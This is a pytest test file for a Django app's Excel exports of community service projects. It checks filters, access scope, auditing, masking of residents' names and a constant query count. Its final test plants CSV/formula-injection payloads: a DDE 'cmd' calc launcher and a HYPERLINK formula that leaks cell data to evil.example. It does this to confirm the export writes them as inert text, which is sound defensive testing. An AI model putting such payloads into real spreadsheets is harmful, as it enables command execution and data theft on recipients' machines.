"""The projects' xlsx exports: the list with the list page's filters and scope, one project's full record,
residents' names masked, audited, a constant number of queries, hostile text written as text."""

import datetime as dt
import io
from decimal import Decimal
from urllib.parse import quote

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from needs.services import Proposer, need_create, need_transition
from projects.delivery import services as delivery
from projects.delivery.exports import listing
from projects.delivery.models import Activity, BudgetAdjustment, Expense, Milestone
from projects.models import BudgetLine, Project
from tests.helpers import C111, C112, C211, make_user
from wuse.accounts.roles import Role
from wuse.audit.models import AuditEntry
from wuse.regions.models import Region

from .delivery.support import delivering, yesterday
from .support import YEAR, co_design, new_project, ready_project
from .test_views import _bulk_projects, _grow

pytestmark = pytest.mark.django_db

LIST = "/projects/export/"
HOSTILE = "=cmd|' /C calc'!A0"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


def _one(pk: int) -> str:
    return f"/projects/{pk}/export/"


def _get(client, url, params=None):
    return client.get(url, params or {}, HTTP_ACCEPT_LANGUAGE="en")


def _workbook(response) -> openpyxl.Workbook:
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    return openpyxl.load_workbook(io.BytesIO(response.content))  # not data_only: a formula would show as "f"


def _rows(sheet) -> list[dict]:
    header, *rows = sheet.iter_rows(values_only=True)
    return [dict(zip(header, row, strict=True)) for row in rows]


def _sheets(response) -> dict[str, list[dict]]:
    return {ws.title: _rows(ws) for ws in _workbook(response).worksheets}


def _listed(response) -> list[dict]:
    (rows,) = _sheets(response).values()
    return rows


def _proposed_need(staff, community: str, title: str, name: str):
    need = need_create(user=staff, community=Region.objects.get(code=community), title=title, description="居民反映",
                       proposer=Proposer(name=name, phone="13812345678"))
    return need_transition(user=staff, need=need_transition(user=staff, need=need, name="verify"), name="list")


@pytest.fixture
def delivered(people):
    """A project in progress with an activity naming residents and a volunteer's hours, an expense, an adjustment
    waiting for the street, a milestone and a mid-term report."""
    from wuse.registry.people.services import PersonData
    from wuse.registry.volunteers.services.volunteers import volunteer_register

    staff = people["staff"]
    project = delivering(people, C111, title="助老需求")
    volunteer = volunteer_register(user=staff, data=PersonData(name="赵志愿", region=Region.objects.get(code=C111),
                                                               phone="13900139000"))
    delivery.activity_record(user=staff, project=project, data=delivery.ActivityData(
        held_on=yesterday(), place="活动室", content="助餐", headcount=30, residents=25, names="张三、李四, 欧阳明月",
        volunteers=(volunteer,), starts=dt.time(9), ends=dt.time(11, 30)))
    line = BudgetLine.objects.filter(project=project).order_by("position", "id").first()
    delivery.expense_record(user=staff, project=project, data=delivery.ExpenseData(
        line=line, amount=Decimal("1234.50"), spent_on=yesterday(), payee="餐饮公司", note="餐费"))
    delivery.adjustment_request(user=staff, project=project, line=line, amount=Decimal("500.00"), reason="人数增加")
    delivery.milestone_create(user=staff, project=project, title="助餐点开张", due_on=dt.date(YEAR, 12, 1))
    delivery.report_submit(user=people["member"], project=project, kind="midterm", text_="中期进展")
    return Project.objects.get(pk=project.pk)


# ---------------------------------------------------------------------------------------------- the list


def test_the_list_export_holds_the_list_rows_with_numbers_dates_and_money(people, client, delivered):
    officer = people["officer"]
    _bulk_projects(officer, 2)
    client.force_login(officer)
    listed = [row.code for row in client.get("/projects/").context["rows"]]
    response = _get(client, LIST)
    assert response["Cache-Control"] == "no-store"
    rows = _listed(response)
    assert [r["Project no."] for r in rows] == listed and len(listed) == 3
    row = next(r for r in rows if r["Project no."] == delivered.code)
    assert row["Title"] == delivered.title and row["Unit"] == Region.objects.get(code=C111).name and row["Year"] == YEAR
    assert row["Total budget (yuan)"] == 12000 and row["Spent (yuan)"] == 1234.5 and row["Linked needs"] == 1
    assert row["Starts"] == dt.datetime(YEAR, 3, 1) and row["Ends"] == dt.datetime(YEAR, 12, 31)
    assert row["Undertaking organization"].startswith("乐龄社工") and row["Status"] == "In progress"
    assert isinstance(row["Created"], dt.datetime) and row["Division code"] == C111


def test_the_list_export_has_exactly_the_list_pages_filters(people, client, delivered):
    officer = people["officer"]
    _bulk_projects(officer, 3, status="draft")
    _bulk_projects(officer, 2, community=C111)
    client.force_login(officer)
    for params in ({}, {"status": "in_progress"}, {"status": "draft"}, {"q": "项目1"}, {"q": delivered.code},
                   {"region": C112}, {"focus_area": "other"}, {"linkage_mode": "sw_volunteers"},
                   {"undertaker": delivered.undertaker_id}, {"year": YEAR}, {"year": YEAR + 1}, {"year": "x"},
                   {"vehicle": "direct", "after": "garbage"}):
        listed = [row.code for row in client.get("/projects/", params).context["rows"]]
        assert [r["Project no."] for r in _listed(_get(client, LIST, params))] == listed, params


def test_the_list_export_is_scoped_like_the_list(people, client, delivered):
    client.force_login(people["officer_other"])  # a street of another district
    assert _listed(_get(client, LIST)) == []
    assert _get(client, LIST, {"region": C111}).status_code == 404
    client.force_login(people["reviewer_other"])
    assert _listed(_get(client, LIST)) == []
    client.force_login(people["staff_other"])
    assert _listed(_get(client, LIST)) == []
    client.force_login(people["reviewer"])
    assert [r["Project no."] for r in _listed(_get(client, LIST))] == [delivered.code]
    client.force_login(people["member"])  # the list is not theirs (their projects are under "my projects")
    assert _get(client, LIST).status_code == 403


def test_the_list_export_is_audited_and_named_in_chinese(people, client, delivered):
    client.force_login(people["staff"])
    response = client.get(LIST, HTTP_ACCEPT_LANGUAGE="zh-hans")
    day = timezone.localdate().strftime("%Y%m%d")
    assert quote(f"服务项目_{day}.xlsx") in response["Content-Disposition"]
    assert "filename*=UTF-8''" in response["Content-Disposition"]
    client.force_login(people["officer"])
    named = client.get(LIST, {"region": C111}, HTTP_ACCEPT_LANGUAGE="zh-hans")["Content-Disposition"]
    assert quote(f"服务项目_{Region.objects.get(code=C111).name}_{day}.xlsx") in named
    entries = list(AuditEntry.objects.filter(action="project.export").order_by("id"))
    assert [(e.user_id, e.detail) for e in entries] == [(people["staff"].pk, {"rows": 1}),
                                                        (people["officer"].pk, {"rows": 1})]


def test_a_list_export_above_the_limit_is_refused_with_a_message(people, client, monkeypatch):
    officer = people["officer"]
    _bulk_projects(officer, 3)
    client.force_login(officer)
    monkeypatch.setattr(listing, "MAX_ROWS", 2)
    response = client.get(LIST, {"status": "approved", "after": "x"}, HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 302 and response.url == "/projects/?status=approved"
    page = client.get(response.url, HTTP_ACCEPT_LANGUAGE="en").content.decode()
    assert "more than 2 projects" in page
    assert not AuditEntry.objects.filter(action="project.export").exists()
    assert _listed(_get(client, LIST, {"q": "项目1"}))  # narrowed, it passes


def _queries(client, url) -> int:
    with CaptureQueriesContext(connection) as captured:
        response = _get(client, url)
    assert response.status_code == 200, url
    return len(captured.captured_queries)


@pytest.mark.parametrize("params", ["", "?status=approved", f"?region={C112}&q=项目", "?undertaker=1&year=2026"])
def test_the_list_export_runs_a_constant_number_of_queries(people, client, params):
    from .support import organization

    officer = people["officer"]
    org = organization("机构", "410101000000")
    _bulk_projects(officer, 1, undertaker=org)
    client.force_login(officer)
    _queries(client, LIST + params)  # once-per-process reads (permission ids) are not the export's
    one = _queries(client, LIST + params)
    _bulk_projects(officer, 50, undertaker=org)
    project = Project.objects.filter(region=C112).first()
    line = BudgetLine.objects.create(project=project, kind="other", funding_source="self", amount=Decimal("9"))
    Expense.objects.create(project=project, line=line, amount=Decimal("1"), spent_on=yesterday(), payee="x",
                           recorded_by=officer)
    assert _queries(client, LIST + params) == one


# ---------------------------------------------------------------------------------------------- one project


def test_the_record_has_one_sheet_per_part_with_the_delivery(people, client, delivered):
    client.force_login(people["staff"])
    response = _get(client, _one(delivered.pk))
    assert quote(delivered.code) in response["Content-Disposition"]
    sheets = _sheets(response)
    assert list(sheets) == ["Plan", "Planned activities", "Indicators", "Budget lines", "Needs",
                            "Co-design records", "Participants", "Milestones", "Activity records", "Expenses",
                            "Budget adjustments", "Project reports", "Acceptance check", "Timeline"]
    plan = {r["Item"]: r["Value"] for r in sheets["Plan"]}
    assert plan["Project no."] == delivered.code and plan["Total budget (yuan)"] == 12000
    assert plan["Starts"] == dt.datetime(YEAR, 3, 1) and plan["Status"] == "In progress"
    lines = sheets["Budget lines"]
    assert [r["Amount (yuan)"] for r in lines] == [8000, 4000]
    assert lines[0]["Spent (yuan)"] == 1234.5 and lines[0]["Left (yuan)"] == 6765.5
    assert lines[0]["Approved extra (yuan)"] == 0  # the adjustment still waits for the street
    assert sheets["Budget adjustments"][0]["Status"] == "Awaiting the street"
    assert sheets["Budget adjustments"][0]["Extra amount (yuan)"] == 500
    (activity,) = sheets["Activity records"]
    assert activity["Volunteer hours"] == 2.5 and activity["Verified volunteer hours"] == 0
    assert activity["Participants (head-count)"] == 30 and activity["Date"] == dt.datetime.combine(
        yesterday(), dt.time())
    assert sheets["Expenses"][0]["Payee"] == "餐饮公司" and sheets["Expenses"][0]["Amount (yuan)"] == 1234.5
    assert sheets["Milestones"][0]["Milestone"] == "助餐点开张"
    assert sheets["Project reports"][0]["Report text"] == "中期进展"
    assert len(sheets["Needs"]) == 1 and len(sheets["Co-design records"]) == 1
    assert [r["Value"] for r in sheets["Acceptance check"]] == ["No"] * 5
    timeline = sheets["Timeline"]
    assert timeline[0]["Transition"] == "Project started" and len(timeline) > 4
    entry = AuditEntry.objects.get(action="project.export_record")
    assert entry.object_id == str(delivered.pk) and entry.user_id == people["staff"].pk


def test_residents_names_are_masked_even_for_staff_who_may_reveal_a_needs_proposer(people, client, delivered):
    staff = people["staff"]
    project = new_project(staff, C111, needs=[_proposed_need(staff, C111, "独居老人助餐", "王小明")])
    co_design(staff, project)
    client.force_login(staff)  # community staff hold need.reveal_pii; the projects step reveals nothing
    for pk in (delivered.pk, project.pk):
        text = str(_sheets(_get(client, _one(pk))))
        assert "王小明" not in text and "张三" not in text and "欧阳明月" not in text and "赵志愿" not in text
        assert "13812345678" not in text and "13900139000" not in text
    (activity,) = _sheets(_get(client, _one(delivered.pk)))["Activity records"]
    assert activity["Participants' names (only where needed)"] == "张*、李*、欧***"
    (need,) = _sheets(_get(client, _one(project.pk)))["Needs"]
    assert need["Proposer"] == "王**" and need["Title"] == "独居老人助餐"


def test_the_record_is_for_those_who_see_the_project(people, client, delivered):
    client.force_login(people["member"])  # a member of the undertaking organization
    assert _get(client, _one(delivered.pk)).status_code == 200
    for who in ("outsider_member", "staff_other", "officer_other", "reviewer_other"):
        client.force_login(people[who])
        assert _get(client, _one(delivered.pk)).status_code == 404, who
    other = make_user("other_member", Role.ORG_MEMBER, C211)
    client.force_login(other)
    assert _get(client, _one(delivered.pk)).status_code == 404
    assert _get(client, _one(10**12)).status_code == 404
    assert AuditEntry.objects.filter(action="project.export_record").count() == 1
    assert AuditEntry.objects.filter(action="project.out_of_scope").exists()


def _grow_delivery(project, user, n: int) -> None:
    line = BudgetLine.objects.filter(project=project).first()
    Milestone.objects.bulk_create([Milestone(project=project, title=f"节点{i}", due_on=dt.date(YEAR, 6, 1),
                                             created_by=user) for i in range(n)])
    Activity.objects.bulk_create([Activity(project=project, community_id=C111, held_on=yesterday(), place="室",
                                           content=f"活动{i}", headcount=2, names="张三", recorded_by=user)
                                  for i in range(n)])
    Expense.objects.bulk_create([Expense(project=project, line=line, amount=Decimal("1.00"), spent_on=yesterday(),
                                         payee="某", recorded_by=user) for _ in range(n)])
    BudgetAdjustment.objects.bulk_create([BudgetAdjustment(project=project, region_id=project.region_id, line=line,
                                                           amount=Decimal("1.00"), reason="r", requested_by=user)
                                          for _ in range(n)])


def test_the_record_runs_a_constant_number_of_queries(people, client):
    staff = people["staff"]
    small, large = (ready_project(staff, C111, title=t) for t in ("小", "大"))
    for project, n in ((small, 1), (large, 50)):
        _grow(project, staff, n)
        _grow_delivery(project, staff, n)
    client.force_login(staff)
    _queries(client, _one(small.pk))
    assert _queries(client, _one(small.pk)) == _queries(client, _one(large.pk))


def test_hostile_text_is_written_as_text_never_as_a_formula(people, client, delivered):
    Project.objects.filter(pk=delivered.pk).update(title=HOSTILE, target_group=FORMULA)
    Activity.objects.filter(project=delivered).update(content="@SUM(A1:A9)", place="+1+2", names=FORMULA)
    Expense.objects.filter(project=delivered).update(payee="-2+3", note="\t=1+1")
    client.force_login(people["staff"])
    for response in (_get(client, LIST), _get(client, _one(delivered.pk))):
        workbook = _workbook(response)
        cells = [c for ws in workbook.worksheets for row in ws.iter_rows() for c in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        texts = {c.value for c in cells if c.data_type == "s"}
        assert HOSTILE in texts
    sheets = _sheets(_get(client, _one(delivered.pk)))
    assert {r["Item"]: r["Value"] for r in sheets["Plan"]}["Target group"] == FORMULA
    (activity,) = sheets["Activity records"]
    assert (activity["Content"], activity["Place"]) == ("@SUM(A1:A9)", "+1+2")
    assert sheets["Expenses"][0]["Payee"] == "-2+3"
